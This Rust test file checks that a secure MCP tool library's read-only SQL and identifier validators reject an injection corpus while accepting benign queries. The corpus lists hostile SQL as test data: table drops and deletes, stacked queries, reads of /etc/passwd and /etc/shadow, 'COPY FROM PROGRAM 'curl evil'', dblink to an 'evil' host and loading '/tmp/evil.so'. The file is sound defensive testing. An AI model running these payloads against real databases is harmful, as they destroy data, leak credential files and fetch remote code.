//! `ReadOnlySql` and `SqlIdent` against an injection corpus through a real rmcp client.
mod common;
use common::{call, connect, error_text, ok_text};

use rmcp::handler::server::router::tool::ToolRouter;
use rmcp::handler::server::wrapper::Parameters;
use rmcp::{ServerHandler, tool, tool_handler, tool_router};
use secure_tool::types::{Postgres, ReadOnlySql, SqlIdent, Sqlite};
use secure_tool::{SecureInput, SecureServer, Security, secure_tool};
use serde_json::json;

#[derive(serde::Deserialize, schemars::JsonSchema, validator::Validate, SecureInput)]
#[serde(deny_unknown_fields)]
struct PgQuery {
    sql: ReadOnlySql<Postgres>,
}

#[derive(serde::Deserialize, schemars::JsonSchema, validator::Validate, SecureInput)]
#[serde(deny_unknown_fields)]
struct LiteQuery {
    sql: ReadOnlySql<Sqlite>,
}

#[derive(serde::Deserialize, schemars::JsonSchema, validator::Validate, SecureInput)]
#[serde(deny_unknown_fields)]
struct Column {
    #[secure(ident(allow = ["users", "orders"]))]
    table: SqlIdent,
    column: SqlIdent,
}

#[derive(Clone)]
struct Db {
    security: Security,
    tool_router: ToolRouter<Self>,
}

impl SecureServer for Db {
    fn security(&self) -> &Security {
        &self.security
    }
}

#[tool_router]
impl Db {
    #[secure_tool(public)]
    #[tool(description = "Postgres query")]
    async fn pg(&self, Parameters(q): Parameters<PgQuery>) -> String {
        q.sql.as_str().to_owned()
    }

    #[secure_tool(public)]
    #[tool(description = "SQLite query")]
    async fn lite(&self, Parameters(q): Parameters<LiteQuery>) -> String {
        q.sql.as_str().to_owned()
    }

    #[secure_tool(public)]
    #[tool(description = "Select one column")]
    async fn column(&self, Parameters(c): Parameters<Column>) -> String {
        format!("SELECT {} FROM {}", c.column.quoted(), c.table.quoted())
    }
}

#[tool_handler(router = self.tool_router)]
impl ServerHandler for Db {}

fn db() -> Db {
    Db {
        security: Security::default(),
        tool_router: Db::tool_router(),
    }
}

const ATTACKS: &[&str] = &[
    // not a query
    "DELETE FROM users",
    "UPDATE users SET admin = true",
    "INSERT INTO users VALUES (1)",
    "DROP TABLE users",
    "TRUNCATE users",
    "ALTER TABLE users ADD COLUMN x int",
    "CREATE TABLE x (id int)",
    "CREATE TABLE x AS SELECT * FROM users",
    "GRANT ALL ON users TO public",
    "COPY users TO '/tmp/x'",
    "COPY users FROM PROGRAM 'curl evil'",
    "SET ROLE postgres",
    "EXPLAIN ANALYZE DELETE FROM users",
    "EXPLAIN SELECT 1",
    "VACUUM",
    "BEGIN",
    "COMMIT",
    "CALL do_things()",
    "DO $$ BEGIN PERFORM 1; END $$",
    "LOCK TABLE users",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "LISTEN x",
    "NOTIFY x",
    "SHOW ALL",
    // stacked
    "SELECT 1; DROP TABLE users",
    "SELECT 1; SELECT 2",
    "SELECT 1;;DELETE FROM users",
    // writes hidden in a query
    "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE users SET a = 1 RETURNING id) SELECT id FROM u",
    "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT 1",
    "SELECT * INTO backup FROM users",
    "SELECT * FROM users FOR UPDATE",
    "SELECT * FROM users FOR SHARE",
    "SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED",
    // escapes to files, network, server
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/shadow')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
    "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
    "SELECT pg_sleep(100)",
    "SELECT pg_terminate_backend(1)",
    "SELECT set_config('log_statement', 'all', false)",
    "SELECT id FROM users WHERE id = (SELECT pg_read_file('/etc/passwd'))",
    "SELECT CASE WHEN true THEN pg_sleep(10) END",
    "SELECT upper(pg_catalog.pg_read_file('x'))",
    "SELECT \"PG_READ_FILE\"('x')",
    "SELECT * FROM users WHERE name = 'a' UNION SELECT pg_read_file('x')",
    "SELECT query_to_xml('DELETE FROM users', true, true, '')",
    // syntax games
    "",
    "   ",
    "-- only a comment",
    "SELECT",
    "SELECT * FROM",
    "'; DROP TABLE users; --",
    "SELECT 1 \u{0000}",
    "SELECT\u{200B}1",
    "SELECT 1 /* \u{202E} */",
];

const SQLITE_ATTACKS: &[&str] = &[
    "ATTACH DATABASE '/tmp/evil.db' AS evil",
    "DETACH DATABASE main",
    "PRAGMA writable_schema = 1",
    "PRAGMA table_info(users)",
    "SELECT load_extension('/tmp/evil.so')",
    "SELECT readfile('/etc/passwd')",
    "SELECT writefile('/tmp/x', 'data')",
    "SELECT fts3_tokenizer('simple')",
    "SELECT * FROM fsdir('/')",
    "REPLACE INTO users VALUES (1)",
    "INSERT OR IGNORE INTO users VALUES (1)",
    "VACUUM INTO '/tmp/copy.db'",
    "REINDEX",
];

#[tokio::test]
async fn writes_escapes_and_stacking_are_refused_without_echo() {
    let client = connect(db()).await;
    assert!(ATTACKS.len() + SQLITE_ATTACKS.len() >= 50);
    for (tool, corpus) in [("pg", ATTACKS), ("lite", SQLITE_ATTACKS), ("lite", ATTACKS)] {
        for sql in corpus {
            let message = error_text(&call(&client, tool, json!({ "sql": sql })).await);
            assert!(
                message.starts_with("invalid arguments: `sql`: "),
                "{tool} {sql:?}: {message}"
            );
            if sql.len() > 8 {
                assert!(!message.contains(sql), "{sql:?} echoed");
            }
        }
    }
}

#[tokio::test]
async fn ordinary_queries_pass() {
    let client = connect(db()).await;
    let benign = [
        "SELECT 1",
        "SELECT id, name FROM users WHERE id = 42",
        "select * from users where name like 'a%' order by id desc limit 10",
        "SELECT u.name, count(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING count(o.id) > 2",
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
        "SELECT name FROM users UNION ALL SELECT name FROM admins",
        "SELECT * FROM (SELECT id FROM users) AS sub",
        "SELECT id FROM users WHERE id IN (SELECT user_id FROM orders)",
        "SELECT coalesce(nickname, name) AS display, upper(email), length(bio) FROM users",
        "VALUES (1, 'a'), (2, 'b')",
        "SELECT * FROM users WHERE note = 'DELETE FROM users; pg_read_file'",
        "SELECT\n  id\nFROM users\nWHERE active",
    ];
    for sql in benign {
        assert_eq!(
            ok_text(&call(&client, "pg", json!({ "sql": sql })).await),
            sql
        );
    }
    let lite = "SELECT name FROM sqlite_master WHERE type = 'table'";
    assert_eq!(
        ok_text(&call(&client, "lite", json!({ "sql": lite })).await),
        lite
    );
}

#[tokio::test]
async fn identifiers_are_checked_and_narrowed() {
    let client = connect(db()).await;
    assert_eq!(
        ok_text(
            &call(
                &client,
                "column",
                json!({"table": "users", "column": "email"})
            )
            .await
        ),
        "SELECT \"email\" FROM \"users\""
    );
    for column in [
        "email; DROP TABLE users",
        "a\"b",
        "1abc",
        "",
        "a b",
        "x".repeat(64).as_str(),
        "naïve",
    ] {
        error_text(
            &call(
                &client,
                "column",
                json!({"table": "users", "column": column}),
            )
            .await,
        );
    }
    let message = error_text(
        &call(
            &client,
            "column",
            json!({"table": "secrets", "column": "x"}),
        )
        .await,
    );
    assert_eq!(
        message,
        "invalid arguments: `table`: only these names are allowed: users, orders"
    );
}
